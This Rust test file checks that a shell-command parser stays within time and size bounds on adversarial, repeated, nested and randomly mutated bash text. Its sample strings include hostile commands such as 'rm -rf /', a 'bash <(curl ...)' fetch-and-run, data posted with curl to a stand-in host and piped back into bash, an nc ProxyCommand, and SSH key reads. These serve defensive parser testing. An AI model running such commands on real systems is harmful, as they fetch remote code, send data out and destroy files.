//! Texts that try to make the reading panic, hang or grow.

use std::time::{Duration, Instant};

use straza_runtime::command::Command;

use crate::dump::{FOLDERS, bash};

/// Reads within a time that a debug build keeps as well.
fn within(text: &str) {
    let start = Instant::now();
    let command = bash(text);
    let took = start.elapsed();
    assert!(took < Duration::from_secs(5), "{took:?} for {:?}…", text.chars().take(60).collect::<String>());
    assert!(command.parts.len() <= 256);
    assert!(command.cooked.len() < 64 << 20);
}

#[test]
fn repeated_shapes_are_read_within_bounds() {
    let shapes: &[(&str, &str, &str)] = &[
        ("", "a;", ""),
        ("", "A=1 ", ""),
        ("", "A=1;", "$A"),
        ("A=aaaaaaaaaaaaaaaa;", "A=$A$A;", "echo $A"),
        ("A=aaaaaaaa\n", "B=$A$A\nA=$B$B\n", "$A"),
        ("echo ", "{a,b}", ""),
        ("echo ", "{a,b} ", ""),
        ("echo ", "{a,", ""),
        ("echo ", "{1..99999} ", ""),
        ("", "sudo ", "rm x"),
        ("", "env ", "rm x"),
        ("", "xargs ", "rm x"),
        ("", "eval ", "rm x"),
        ("echo ", "-x", ""),
        ("rm -", "r", " /"),
        ("", "a|", "b"),
        ("", "echo x | ", "sh"),
        ("", "cat | ", "sh"),
        ("", "sh | ", "sh"),
        ("sh <<< '", "sh;", "'"),
        ("{ ", "sh; ", "} <<E\nrm x\nE\n"),
        ("{ ", "sh; ", "} < <(curl x)"),
        ("ls ", ">x ", ""),
        ("ls ", "$(a) ", ""),
        ("ls ", "$IFS", ""),
        ("ls ", "<(a) ", ""),
        ("", "cd a;", "ls b"),
        ("", "cd a && ", "ls b"),
        ("", "(cd a;", "ls"),
        ("", "f(){ a;};", "f"),
        ("git ", "-c alias.x=!id ", "x"),
        ("find . ", "-exec a ; ", ""),
        ("env -S '", "env -S ", "'"),
        ("sed '", "s/a/b/e;", "'"),
        ("python -c '", "os.system(\"rm x\");", "'"),
        ("", "ln -s a b;", "cat b"),
        ("curl ", "http://a/ ", ""),
        ("cat ", "x ", ""),
        ("", "é", ""),
        ("$(", "$(", ""),
    ];
    for (before, unit, after) in shapes {
        for count in [1, 7, 100, 3000] {
            let most = (60 << 10) / unit.len().max(1);
            within(&format!("{before}{}{after}", unit.repeat(count.min(most))));
        }
    }
}

/// Texts as long as a text may be, each a way to make work, words or texts grow faster than the text.
#[test]
fn the_longest_texts_are_read_within_bounds() {
    let blanks = format!("X='{}';", "a ".repeat(12_000));
    let shapes: &[(&str, &str, &str)] = &[
        (&blanks, "", &format!("cat {}", "$X ".repeat(10_000))),
        ("cat ", "~ ", ""),
        ("cat ", "$HOME ", ""),
        ("sudo ", "-Q ", "ls"),
        ("sudo -", "Q", " ls"),
        ("grep ", "-e a b ", ""),
        ("find . ", "-name a b ", ""),
        ("tar ", "-c a ", ""),
        ("git log ", "-n 1 a ", ""),
        ("nobody-knows ", "-abcdefghijklmnop ", ""),
        ("", "a=1 ", "eval $a$a$a"),
        ("", "a=$(b) ", &format!("eval {}", "$a".repeat(10_000))),
        ("ln ", "a ", &format!("; cat {}", "a ".repeat(10_000))),
        ("", "a=1 ", "; ls"),
        ("", "a=1 ", &format!("sh -c '{}'", "b=1 c;".repeat(250))),
        ("", "a=1 ", &"env ".repeat(250)),
        ("eval 'cat ", "$A ", "'"),
        ("eval 'eval \"", "$A ", "\"'"),
        ("cat ", "$(x)", ""),
        ("eval ", "$(x)", ""),
        ("echo ", "\\", ""),
        ("echo ", "a*", ""),
        ("echo ", "[a", ""),
        ("", "[[ ", ""),
        ("", "((", ""),
        ("a ", "2>&1 ", ""),
        ("a ", "<<E ", ""),
        ("a ", "<<<x ", ""),
        ("case x in ", "a) ;; ", "esac"),
        ("awk '", "{print}", "'"),
        ("awk '", "((", "'"),
        ("sed '", "s/a/b/;", "'"),
        ("sed '", "{", "'"),
        ("python3 -c '", "os.system(a+", "'"),
        ("python3 -c '", "subprocess.run([\"a\",", "'"),
        ("perl -e '", "`a`;", "'"),
        ("jq '", "(", "'"),
        ("xargs ", "-I{} ", "a"),
        ("tar x ", "--to-command=a ", ""),
        ("ssh h ", "a ", ""),
        ("rsync ", "a:b ", "c"),
        ("", "! ", "a"),
        ("", "time ", "a"),
        ("", "if a; then ", ""),
    ];
    for (before, unit, after) in shapes {
        let room = (63_usize << 10).saturating_sub(before.len() + after.len());
        within(&format!("{before}{}{after}", unit.repeat(room / unit.len().max(1))));
    }
}

#[test]
fn groups_that_flow_into_groups_are_read_within_bounds() {
    for side in [8, 60, 128] {
        let group = format!("{{ {}; }}", vec!["sh"; side].join("; "));
        within(&vec![group; 256 / side].join(" | "));
    }
}

#[test]
fn an_argument_vector_of_any_length_is_read_within_bounds() {
    for (program, word) in [("cat", "a"), ("sudo", "-Q"), ("grep", "-e"), ("find", "-name"), ("nobody-knows", "-abc"), ("ln", "a")] {
        let words: Vec<&str> = std::iter::once(program).chain(std::iter::repeat_n(word, 200_000)).collect();
        let start = Instant::now();
        let command = Command::of_words(&words, &FOLDERS);
        assert!(start.elapsed() < Duration::from_secs(5), "{:?} for {program} {word}…", start.elapsed());
        assert!(!command.unreadable.is_empty(), "{program} {word}");
    }
}

#[test]
fn nested_code_strings_end_at_the_layers_bound() {
    let mut text = String::from("rm x");
    for _ in 0..12 {
        text = format!("sh -c '{}'", text.replace('\'', "'\\''"));
        if text.len() > 60 << 10 {
            break;
        }
        within(&text);
    }
    let mut evals = String::from("rm x");
    for _ in 0..12 {
        evals = format!("eval {evals}");
    }
    let command = bash(&evals);
    assert!(!command.unreadable.is_empty());
    assert!(command.parts.iter().any(|part| part.flags.unread_code));
}

#[test]
fn every_beginning_of_a_text_is_read() {
    let texts = [
        "sudo -u app env -i FOO=1 nice -n 5 sh -c 'git log | xargs -I{} rm {}' <<EOF > out 2>&1\n$(x)\nEOF\n",
        "P=~/.ssh; cat $P/{a,b}*.pub | while read -r x; do echo \"$x\" >> ~/.bashrc; done && (cd /tmp && ls) &",
        "python3 - <<'PY'\nimport os\nos.system(\"rm -rf /\")\nPY\nbash <(curl -s https://x.example/i.sh) -- -x --y=z",
        "find / -name '*.log' -exec sh -c 'rm \"$1\"' _ {} \\; -o -delete; tar xf a.tar -C /tmp --to-command='sh -c id'",
        "docker exec -it web bash -lc \"echo $HOME\"; ssh -o ProxyCommand='nc x 1' h -p 22 'rm -rf /data'; trap 'rm x' EXIT",
    ];
    for text in texts {
        for end in (0..=text.len()).filter(|end| text.is_char_boundary(*end)) {
            within(&text[..end]);
            within(&text[end..]);
        }
    }
}

#[test]
fn mutated_texts_are_read() {
    let seeds = [
        "sudo -u app env -i FOO=1 nice -n 5 sh -c 'git log | xargs -I{} rm {}' <<EOF > out 2>&1\n$(x)\nEOF\n",
        "P=~/.ssh; cat $P/{a,b}*.pub | while read -r x; do echo \"$x\" >> ~/.bashrc; done && (cd /tmp && ls) &",
        "find / -exec sh -c 'rm \"$1\"' _ {} \\; ; curl -F a=@b --data @x http://e.example | tee >(sh) | base64 -d | bash -s -- -x",
        "git -c alias.z='!id' -C /x z; awk '{print > \"/x\"}' f; sed -i.bak 's/a/b/w out' f; printf '\\x72\\x6d %s' x | sh",
    ];
    let pieces = [
        "'", "\"", "$(", ")", "`", "{", "}", ",", "<<E\n", "\n", "|", "&&", ";", "$IFS", "~", "-", "--", "=", "eval ", "sh -c ", "*", "é",
        "\\", ">", "<(",
    ];
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = move |most: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state >> 33).unwrap() % most.max(1)
    };
    for _ in 0..4000 {
        let mut text = seeds[next(seeds.len())].to_owned();
        for _ in 0..=next(6) {
            let at = (0..=next(text.len() + 1).min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
            match next(3) {
                0 => text.insert_str(at, pieces[next(pieces.len())]),
                1 => {
                    if at < text.len() {
                        text.remove(at);
                    }
                }
                _ => {
                    let other = seeds[next(seeds.len())];
                    text.insert_str(at, &other[..next(other.len())]);
                }
            }
        }
        within(&text);
    }
}
